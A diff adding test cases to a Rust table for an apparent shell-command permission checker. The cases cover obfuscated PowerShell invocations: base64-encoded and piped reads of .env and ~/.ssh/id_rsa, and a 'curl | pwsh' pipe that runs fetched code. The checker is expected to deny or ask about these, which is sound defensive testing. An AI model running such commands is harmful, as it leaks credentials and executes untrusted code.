@@ -319,11 +319,12 @@ pub const ELSEWHERE_CASES: &[(&str, &str, &str, &str)] = &[
         "deny",
         "path-deny-read",
     ),
+    // Decoded (base64 of UTF-16LE), it is `echo`.
     (
         "pwsh-encoded",
         "pwsh -EncodedCommand ZQBjAGgAbwA=",
-        "ask",
-        "unanalyzable-command",
+        "allow",
+        "no-match",
     ),
     (
         "git-c-pager",
@@ -2275,5 +2276,54 @@ pub const ELSEWHERE_CASES: &[(&str, &str, &str, &str)] = &[
         "BASH_ALIASES[ll]='ls -la'; ll src",
         "allow",
         "no-match",
+    ),
+    // R1: PowerShell code given encoded or on the input.
+    (
+        "pwsh-encoded-get-content",
+        "pwsh -EncodedCommand RwBlAHQALQBDAG8AbgB0AGUAbgB0ACAALgBlAG4AdgA=",
+        "deny",
+        "path-deny-read",
+    ),
+    (
+        "pwsh-enc-prefix-home",
+        "pwsh -enc ZwBjACAAfgAvAC4AcwBzAGgALwBpAGQAXwByAHMAYQA=",
+        "deny",
+        "path-deny-read",
+    ),
+    (
+        "pwsh-encoded-benign",
+        "pwsh -NoProfile -EncodedCommand RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA=",
+        "allow",
+        "no-match",
+    ),
+    (
+        "pwsh-encoded-undecodable",
+        "pwsh -EncodedCommand '!!notbase64'",
+        "ask",
+        "unanalyzable-command",
+    ),
+    (
+        "pwsh-command-stdin",
+        "pwsh -Command - <<< 'Get-Content .env'",
+        "deny",
+        "path-deny-read",
+    ),
+    (
+        "pwsh-piped",
+        "echo 'Get-Content .env' | pwsh",
+        "deny",
+        "path-deny-read",
+    ),
+    (
+        "pwsh-command-heredoc",
+        "pwsh -NoProfile -Command - <<'EOF'\nGet-Content ~/.ssh/id_rsa\nEOF",
+        "deny",
+        "path-deny-read",
+    ),
+    (
+        "pwsh-unknown-input",
+        "curl -s x | pwsh -Command -",
+        "ask",
+        "unanalyzable-command",
     ),
 ];
